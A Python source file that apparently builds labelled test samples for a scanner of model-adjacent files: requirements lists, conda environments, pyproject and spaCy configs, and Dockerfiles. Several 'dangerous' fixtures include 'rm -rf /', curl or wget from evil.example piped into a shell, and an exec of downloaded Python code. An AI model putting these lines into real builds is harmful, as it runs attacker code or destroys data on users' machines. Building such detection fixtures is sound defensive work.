"""What is installed and built beside a model: requirements, environments, projects, Dockerfiles, spaCy functions."""

from __future__ import annotations

from corpus import Sample, add, bad, honest

REQUIREMENTS = {
    "git": "git+https://github.com/someone/thing\n",
    "git_branch": "thing @ git+https://github.com/someone/thing@main\n",
    "address": "https://example.org/thing-1.0.tar.gz\n",
    "index": "--index-url http://packages.example.net/simple\nnumpy==1.26.4\n",
    "extra_index": "numpy==1.26.4\n--extra-index-url https://packages.example.net/simple\n",
    "find_links": "-f https://packages.example.net/\nnumpy==1.26.4\n",
    "trusted_host": "--trusted-host packages.example.net\nnumpy==1.26.4\n",
    "unpinned": "numpy\ntorch\n",
    "editable": "-e ./plugin\n",
    "local": "./plugin.whl\n",
    "file": "thing @ file:///tmp/thing.whl\n",
    "continued": "thing @ \\\n  https://example.org/thing.whl\n",
    "unreadable": "numpy==1.26; rm -rf /\n$(id)\n",
}
for _name, _text in REQUIREMENTS.items():
    _why = f"requirements beside a model: {_name.replace('_', ' ')}"
    add(Sample(f"requirements/{_name}", "requirements", _why, "requirements.txt", "", _text.encode, dangerous=True))


@honest("requirements", "requirements that are pinned or bounded", file="requirements.txt")
def requirements_pinned() -> bytes:
    return (
        b"# models\nnumpy==1.26.4 ; python_version < '3.13'\ntorch>=2.0,<3\nscikit_learn[alldeps]~=1.4  # x\n"
        b"--extra-index-url https://download.pytorch.org/whl/cpu\n-r base.txt\n"
        b"thing @ git+https://github.com/a/b@0123456789abcdef0123456789abcdef01234567\n"
    )


@bad("requirements", "a conda environment that takes packages from an address", file="environment.yml")
def conda_channel() -> bytes:
    return b"name: x\nchannels: [http://evil.example/channel]\ndependencies: [python=3.10]\n"


@bad("requirements", "a conda environment whose pip part installs from git", file="environment.yml")
def conda_pip() -> bytes:
    return b"name: x\nchannels: [conda-forge]\ndependencies:\n- pip:\n  - git+https://github.com/evil/x\n"


@bad("requirements", "a build that runs its own program", file="pyproject.toml")
def own_backend() -> bytes:
    return b'[build-system]\nrequires = []\nbuild-backend = "build"\nbackend-path = ["."]\n[project]\nname = "x"\n'


@honest("requirements", "an ordinary project file", file="pyproject.toml")
def project() -> bytes:
    build = b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    return build + b'[project]\nname = "x"\nversion = "1"\n'


@honest("requirements", "spaCy's configuration", file="config.cfg")
def spacy_config() -> bytes:
    return (
        b'[nlp]\nlang = "en"\npipeline = ["tok2vec","ner"]\nbefore_creation = null\n\n[components.ner.model]\n'
        b'@architectures = "spacy.TransitionBasedParser.v2"\n\n[training.optimizer]\n@optimizers = "Adam.v1"\n\n'
        b"[initialize]\nvectors = ${paths.vectors}\n"
    )


@bad("requirements", "a spaCy configuration that needs functions from elsewhere", file="config.cfg")
def spacy_function() -> bytes:
    return b'[initialize.before_init]\n@callbacks = "evil_package.run"\n'


DOCKERFILES = {
    "add_address": "FROM python:3.11\nADD http://evil.example/x.tgz /opt/\n",
    "curl_shell": "FROM python:3.11\nRUN curl -sSL https://evil.example/x.sh | sh\n",
    "wget_bash": "FROM python:3.11\nRUN apt-get update && \\\n    wget -qO- http://evil.example/x | sudo bash\n",
    "root": "FROM python:3.11\nUSER root\n",
    "own_index": "FROM python:3.11\nRUN pip install --index-url http://evil.example/simple x\n",
    "python_code": (
        "FROM python:3.11\nRUN python -c \"import urllib.request as u; exec(u.urlopen('http://e').read())\"\n"
    ),
    "unknown_command": "FROM python:3.11\nRUN ./install.bin\n",
    "exec_form": 'FROM python:3.11\nRUN ["/opt/run", "now"]\n',
    "secret": "FROM python:3.11\nENV API_TOKEN=Zt3KvLx0PbW7sYhRn2Jd\n",
}
for _name, _text in DOCKERFILES.items():
    _why = f"a Dockerfile beside a model: {_name.replace('_', ' ')}"
    add(
        Sample(f"requirements/dockerfile_{_name}", "requirements", _why, "Dockerfile", "", _text.encode, dangerous=True)
    )


@honest("requirements", "a Dockerfile that only installs from package indexes", file="Dockerfile")
def dockerfile() -> bytes:
    return (
        b"# syntax=docker/dockerfile:1\nFROM python:3.11-slim AS base\nENV PYTHONUNBUFFERED=1\nWORKDIR /app\n"
        b"RUN apt-get update && apt-get install -y --no-install-recommends "
        b"libgomp1 \\\n    && rm -rf /var/lib/apt/lists/*\n"
        b"COPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\n"
        b'USER app\nCMD ["python", "serve.py"]\n'
    )
